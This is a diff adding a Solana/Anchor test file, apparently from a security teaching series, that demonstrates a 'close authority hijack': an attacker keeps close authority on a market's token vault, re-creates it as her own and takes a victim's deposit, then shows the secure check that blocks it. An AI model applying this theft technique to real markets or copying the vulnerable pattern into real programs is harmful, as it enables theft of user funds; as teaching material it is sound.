@@ -0,0 +1,208 @@
+import * as anchor from "@coral-xyz/anchor";
+import { Program } from "@coral-xyz/anchor";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey, SystemProgram } from "@solana/web3.js";
+import {
+    AuthorityType,
+    TOKEN_PROGRAM_ID,
+    closeAccount,
+    createAccount,
+    createMint,
+    getAccount,
+    mintTo,
+    setAuthority,
+    transfer,
+} from "@solana/spl-token";
+import { expect } from "chai";
+import { expectError } from "../../../tests/utils";
+
+describe("57: Close Authority Hijack", () => {
+    const provider = anchor.AnchorProvider.env();
+    anchor.setProvider(provider);
+
+    const program = anchor.workspace.CloseAuthorityHijack as Program<any>;
+
+    let admin: Keypair;
+    let alice: Keypair;
+    let mallory: Keypair;
+
+    let mint: PublicKey;
+    let aliceTokens: PublicKey;
+    let malloryTokens: PublicKey;
+
+    const VULNERABLE_MARKET = 1;
+    const SECURE_MARKET = 2;
+    const DEPOSIT = 500_000_000;
+
+    function marketPda(marketId: number): PublicKey {
+        return PublicKey.findProgramAddressSync(
+            [Buffer.from("market"), new anchor.BN(marketId).toArrayLike(Buffer, "le", 8)],
+            program.programId
+        )[0];
+    }
+
+    function balancePda(marketId: number, owner: PublicKey): PublicKey {
+        return PublicKey.findProgramAddressSync(
+            [Buffer.from("balance"), marketPda(marketId).toBuffer(), owner.toBuffer()],
+            program.programId
+        )[0];
+    }
+
+    /** A vault owned by the market, but with Mallory kept as close authority. */
+    async function mallorysVault(marketId: number): Promise<Keypair> {
+        const vault = Keypair.generate();
+        await createAccount(provider.connection, mallory, mint, mallory.publicKey, vault);
+        await setAuthority(provider.connection, mallory, vault.publicKey, mallory, AuthorityType.CloseAccount, mallory.publicKey);
+        await setAuthority(provider.connection, mallory, vault.publicKey, mallory, AuthorityType.AccountOwner, marketPda(marketId));
+        return vault;
+    }
+
+    function register(method: "vulnerableRegisterVault" | "secureRegisterVault", marketId: number, vault: PublicKey) {
+        return program.methods[method](new anchor.BN(marketId))
+            .accounts({
+                market: marketPda(marketId),
+                mint,
+                vault,
+                creator: mallory.publicKey,
+                systemProgram: SystemProgram.programId,
+            })
+            .signers([mallory])
+            .rpc();
+    }
+
+    function aliceDeposits(marketId: number, vault: PublicKey) {
+        return program.methods
+            .deposit(new anchor.BN(DEPOSIT))
+            .accounts({
+                market: marketPda(marketId),
+                vault,
+                balance: balancePda(marketId, alice.publicKey),
+                depositorTokenAccount: aliceTokens,
+                depositor: alice.publicKey,
+                tokenProgram: TOKEN_PROGRAM_ID,
+                systemProgram: SystemProgram.programId,
+            })
+            .signers([alice])
+            .rpc();
+    }
+
+    function aliceWithdraws(marketId: number, vault: PublicKey) {
+        return program.methods
+            .withdraw()
+            .accounts({
+                market: marketPda(marketId),
+                vault,
+                balance: balancePda(marketId, alice.publicKey),
+                depositorTokenAccount: aliceTokens,
+                depositor: alice.publicKey,
+                tokenProgram: TOKEN_PROGRAM_ID,
+            })
+            .signers([alice])
+            .rpc();
+    }
+
+    async function amountOf(account: PublicKey): Promise<number> {
+        return Number((await getAccount(provider.connection, account)).amount);
+    }
+
+    before(async () => {
+        admin = Keypair.generate();
+        alice = Keypair.generate();
+        mallory = Keypair.generate();
+
+        for (const kp of [admin, alice, mallory]) {
+            const sig = await provider.connection.requestAirdrop(kp.publicKey, 10 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+        }
+    });
+
+    describe("Setup", () => {
+        it("Creates a mint and funds Alice", async () => {
+            mint = await createMint(provider.connection, admin, admin.publicKey, null, 6);
+            aliceTokens = await createAccount(provider.connection, alice, mint, alice.publicKey);
+            malloryTokens = await createAccount(provider.connection, mallory, mint, mallory.publicKey);
+            await mintTo(provider.connection, admin, mint, aliceTokens, admin, 2 * DEPOSIT);
+        });
+    });
+
+    describe("Exploit: the vault is closed and re-created under Mallory", () => {
+        let vault: Keypair;
+
+        it("Mallory registers a market-owned vault that still lists Mallory as close authority", async () => {
+            vault = await mallorysVault(VULNERABLE_MARKET);
+            await register("vulnerableRegisterVault", VULNERABLE_MARKET, vault.publicKey);
+
+            const account = await getAccount(provider.connection, vault.publicKey);
+            expect(account.owner.toBase58()).to.equal(marketPda(VULNERABLE_MARKET).toBase58());
+            expect(account.closeAuthority?.toBase58()).to.equal(mallory.publicKey.toBase58());
+        });
+
+        it("While it is empty, Mallory closes the vault and re-creates it as Mallory's own", async () => {
+            await closeAccount(provider.connection, mallory, vault.publicKey, mallory.publicKey, mallory);
+            await createAccount(provider.connection, mallory, mint, mallory.publicKey, vault);
+
+            const account = await getAccount(provider.connection, vault.publicKey);
+            expect(account.owner.toBase58()).to.equal(mallory.publicKey.toBase58());
+        });
+
+        it("Alice's deposit lands in Mallory's account, and Mallory takes it", async () => {
+            await aliceDeposits(VULNERABLE_MARKET, vault.publicKey);
+            await transfer(provider.connection, mallory, vault.publicKey, malloryTokens, mallory, DEPOSIT);
+
+            console.log(`  Mallory holds ${await amountOf(malloryTokens)}; the market recorded ${DEPOSIT}`);
+            expect(await amountOf(malloryTokens)).to.equal(DEPOSIT);
+        });
+
+        it("Alice cannot withdraw: the market no longer owns its vault", async () => {
+            try {
+                await aliceWithdraws(VULNERABLE_MARKET, vault.publicKey);
+                expect.fail("Should have thrown");
+            } catch (error: any) {
+                const output = [error.message, ...(error.logs ?? [])].join("\n");
+                expect(output).to.include("owner does not match");
+            }
+        });
+    });
+
+    describe("Secure: close authority must be unset or the market", () => {
+        it("Rejects a vault with Mallory as close authority", async () => {
+            const vault = await mallorysVault(SECURE_MARKET);
+            await expectError(register("secureRegisterVault", SECURE_MARKET, vault.publicKey), "ForeignCloseAuthority");
+        });
+
+        it("Accepts a vault created directly for the market; Mallory cannot close it", async () => {
+            const vault = Keypair.generate();
+            await createAccount(provider.connection, mallory, mint, marketPda(SECURE_MARKET), vault);
+            await register("secureRegisterVault", SECURE_MARKET, vault.publicKey);
+
+            try {
+                await closeAccount(provider.connection, mallory, vault.publicKey, mallory.publicKey, mallory);
+                expect.fail("Should have thrown");
+            } catch (error: any) {
+                const output = [error.message, ...(error.logs ?? [])].join("\n");
+                expect(output).to.include("owner does not match");
+            }
+
+            const before = await amountOf(aliceTokens);
+            await aliceDeposits(SECURE_MARKET, vault.publicKey);
+            await aliceWithdraws(SECURE_MARKET, vault.publicKey);
+            expect(await amountOf(aliceTokens)).to.equal(before);
+        });
+    });
+
+    describe("Security Comparison", () => {
+        it("Demonstrates the core difference", () => {
+            console.log("\n=== Close Authority Hijack ===\n");
+
+            console.log("VULNERABLE PATTERN:");
+            console.log("  #[account(token::mint = mint, token::authority = market)]  // owner checked once");
+            console.log("  Risk: a leftover close authority closes the vault and re-creates it at the same address\n");
+
+            console.log("SECURE PATTERN:");
+            console.log("  require!(vault.close_authority.is_none() || vault.close_authority == Some(market));");
+            console.log("  Protection: only the market can ever close the account it stores\n");
+
+            console.log("KEY INSIGHT:");
+            console.log("  Owning a token account is not the same as controlling it. Check every authority.");
+        });
+    });
+});